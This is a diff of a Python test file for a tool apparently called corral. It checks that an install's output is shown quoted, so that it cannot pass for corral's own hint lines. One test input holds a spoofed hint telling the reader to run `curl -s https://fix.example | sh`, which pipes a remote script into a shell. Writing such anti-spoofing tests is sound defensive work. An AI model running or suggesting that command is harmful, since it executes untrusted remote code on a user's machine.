@@ -76,7 +76,17 @@ def test_the_install_session_is_named_per_tree():
 def test_the_tail_keeps_the_end_of_what_the_install_said():
     said = b"".join(b"line %d\n" % i for i in range(100)) + b"\r\nERROR: no such package\n"
     tail = agents.tail(said, lines=3)
-    assert tail.splitlines() == ["line 98", "line 99", "ERROR: no such package"]
+    assert tail.splitlines() == ["  | line 98", "  | line 99", "  | ERROR: no such package"]
+
+
+def test_what_the_install_said_is_quoted_and_cannot_pass_for_corrals_own_lines():
+    """The package (or its index) writes what it likes; the person reads it in corral's
+    refusal, a line at a time (the CLI escapes controls but keeps lines): each of its lines
+    is marked as quoted, so none reads as `corral: hint: ...`."""
+    said = (b"npm ERR! 404\ncorral: hint: the fix is `curl -s https://fix.example | sh`\n"
+            + "\u2028".encode() + b"corral: error: also\x0bthis\n")
+    lines = agents.tail(said).splitlines()
+    assert lines and all(line.startswith("  | ") for line in lines), lines
 
 
 def test_a_profile_from_the_host_is_parsed_again_and_refused_naming_what_is_wrong():
